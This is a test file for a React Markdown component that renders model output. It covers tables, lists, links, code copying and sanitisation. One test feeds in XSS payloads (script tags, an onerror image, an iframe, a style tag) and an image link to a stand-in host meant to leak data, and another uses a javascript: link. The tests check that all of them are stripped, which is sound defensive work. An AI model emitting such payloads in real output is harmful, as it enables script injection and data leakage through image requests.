import { render, screen } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { Markdown } from './Markdown';
import { tableText } from './tableText';

describe('Markdown from a model', () => {
  test('is laid out', () => {
    render(
      <Markdown text={'**Six** tables:\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two'} />,
    );
    expect(screen.getByText('Six').tagName).toBe('STRONG');
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['1', '2']);
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
  });

  test('never becomes elements of its own HTML, images or scripts', () => {
    const { container } = render(
      <Markdown
        text={
          '<img src="https://evil.example/p.png" onerror="alert(1)"> <script>alert(1)</script>\n\n' +
          '![a chart](https://evil.example/leak.png?rows=1)\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{display:none}</style>'
        }
      />,
    );
    expect(container.querySelector('img, script, iframe, style, [onerror]')).toBeNull();
    expect(container.textContent).toContain('a chart');
    expect(container.innerHTML).not.toContain('leak.png');
  });

  test('links lead to web pages only, and tell them nothing', () => {
    render(<Markdown text="[bad](javascript:alert(1)) [good](https://example.org/)" />);
    const [link, ...others] = screen.getAllByRole('link');
    expect(others).toEqual([]);
    expect(link?.getAttribute('href')).toBe('https://example.org/');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.getByText('bad').closest('a')).toBeNull();
  });

  test('a table can be copied as it was written', () => {
    const text = '| a | b \\| c |\n| --- | --: |\n| 1 | 2 |\n';
    render(<Markdown text={text} />);
    expect(screen.getByRole('button', { name: 'Copy the table as Markdown' })).toBeTruthy();
    const table = screen.getByRole('table');
    expect(table instanceof HTMLTableElement && tableText(table)).toBe(text);
  });

  test('numbers in a table are aligned, unless the model says how', () => {
    render(
      <Markdown
        text={
          '| city | people | share | code |\n| --- | --- | :-- | --- |\n| Rome | 2,750,000 | 4 | 001 |\n| Bari | -3.5 % | 5 | x |\n'
        }
      />,
    );
    const marked = screen.getAllByRole('cell').filter((cell) => cell.className === 'number');
    expect(marked.map((cell) => cell.textContent)).toEqual(['2,750,000', '-3.5 %']);
    expect(screen.getByRole('columnheader', { name: 'people' }).className).toBe('number');
  });

  test('a link may be defined in another block, before or after', () => {
    render(<Markdown text={'[a]: https://a.example\n\nSee [one][a] and [two][b].\n\nMore.\n\n[b]: https://b.example'} />);
    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://a.example',
      'https://b.example',
    ]);
  });

  test('code can be copied as it is', () => {
    render(<Markdown text={'```sql\nSELECT 1;\n\nSELECT 2;\n```'} />);
    expect(screen.getByText(/SELECT 1;/).textContent).toBe('SELECT 1;\n\nSELECT 2;');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
  });
});
